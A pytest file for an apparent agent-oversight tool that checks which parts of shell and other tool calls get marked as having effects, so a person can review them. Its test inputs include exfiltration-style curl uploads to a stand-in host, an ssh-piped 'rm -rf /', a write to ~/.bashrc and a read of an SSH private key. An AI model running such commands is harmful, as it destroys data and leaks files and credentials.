"""Which part of a call is marked with which effect: for a person's eye, and never less or more than the whole call."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lockgate.analysis import analyse
from lockgate.configuration.load import load_for_cli
from lockgate.core.model import ToolCall
from lockgate.gate.host.host_view import host_view_of
from lockgate.service.http.schemas.calls import Call, EffectShown
from lockgate.service.http.views.call_spans import mark_effects
from lockgate.service.http.views.display_values import escape_text
from lockgate.system.folders import Folders

WHERE = Folders("/nowhere/home", "/nowhere/state", "/nowhere/config")


def call_of(tool: str, given: dict[str, object]) -> Call:
    """A call as it is shown, with the effects that it really has."""
    around = host_view_of(WHERE, "/nowhere", "", load_for_cli("/").policies[0].rules)
    analysis = analyse(ToolCall(tool, given, "/nowhere"), around)
    effects = [
        EffectShown(row=each.row, what=each.what, rule=each.rule, because=each.because, gives=each.gives)
        for each in analysis.effects
    ]
    return mark_effects(WHERE, tool, given, "/nowhere", effects, whole=True)


def marks(command: str) -> list[str]:
    """The parts of a command that are marked."""
    (field,) = call_of("Bash", {"command": command}).fields
    assert "".join(piece.text for piece in field.pieces) == escape_text(command)
    return [piece.text for piece in field.pieces if piece.effects]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls -la", []),
        ("git push origin main", ["git push origin main"]),
        ("cd x && git push; echo done", ["git push"]),
        ("cat a | curl -d @- https://x.example", ["curl -d @- https://x.example"]),
        ("for f in *; do curl -T \"$f\" https://x.example; done", ['curl -T "$f" https://x.example']),
        ("if true; then git push; else git status; fi", ["git push"]),
        ("(git push)", ["git push"]),
        ("! git push", ["git push"]),
        ("A='b c' git push 2>&1 | tail", ["A='b c' git push 2>&1"]),
        ("git push 'a;b' \"c|d\" e\\;f; ls", ["git push 'a;b' \"c|d\" e\\;f"]),
        ("git push $(echo a; echo b); ls", ["git push $(echo a; echo b)"]),
        ("bash -c 'git push'; echo git push", ["bash -c 'git push'"]),
        ("f() { git push; }; f", ["f"]),
        ("cat <<EOF | ssh host sh\nrm -rf /\nEOF\nls", ["ssh host sh"]),
        ("echo hi > ~/.bashrc", ["echo hi > ~/.bashrc"]),
        ("'git' push", ["'git' push"]),
    ],
)  # fmt: skip
def test_the_commands_that_have_effects_are_marked(command: str, expected: list[str]) -> None:
    assert marks(command) == expected


def test_code_that_stands_elsewhere_is_not_taken_for_this_text() -> None:
    """A trap runs a text of its own; where its commands stand in that says nothing of this one."""
    assert marks("trap 'curl https://x.example' EXIT; cat x") == ["trap 'curl https://x.example' EXIT"]


@pytest.mark.parametrize(
    ("tool", "given", "expected"),
    [
        ("WebFetch", {"url": "https://x.example/a", "prompt": "say"}, {"url": ["https://x.example/a"], "prompt": []}),
        ("Read", {"file_path": "/nowhere/home/.ssh/id_rsa"}, {"file_path": ["/nowhere/home/.ssh/id_rsa"]}),
        ("Write", {"file_path": "notes.txt", "content": "git push"}, {"file_path": [], "content": []}),
        ("mcp__x__send", {"to": ["a"], "n": 5}, {"to": [], "n": []}),
    ],
)
def test_of_other_tools_what_the_effect_is_about_is_marked(
    tool: str, given: dict[str, object], expected: dict[str, list[str]]
) -> None:
    fields = call_of(tool, given).fields
    assert {field.name: [piece.text for piece in field.pieces if piece.effects] for field in fields} == expected


_SIGNS = [
    " ",
    ";",
    "&&",
    "|",
    "(",
    ")",
    "$(",
    "`",
    "'",
    '"',
    "\\",
    "\n",
    "<<E",
    ">f",
    "{",
    "}",
    "\u202e",
    "\ud800",
    "é",
]
_PARTS = st.sampled_from(
    [
        *_SIGNS,
        "git push",
        "curl x.example",
        "trap 'git push' EXIT",
        "bash -c 'git push'",
        "for i in x; do ",
        "done",
        "a=b",
        "$x",
    ]
)


@given(st.lists(_PARTS, max_size=12).map("".join))
def test_nothing_of_a_command_is_lost_or_added(command: str) -> None:
    marks(command)


def test_all_of_a_command_that_cannot_be_read_is_marked_and_nothing_said_about_it() -> None:
    call = call_of("Bash", {"command": "curl 'never closed", "description": "never closed"})
    assert [[piece.text for piece in field.pieces if piece.effects] for field in call.fields] == [
        ["curl 'never closed"],
        [],
    ]
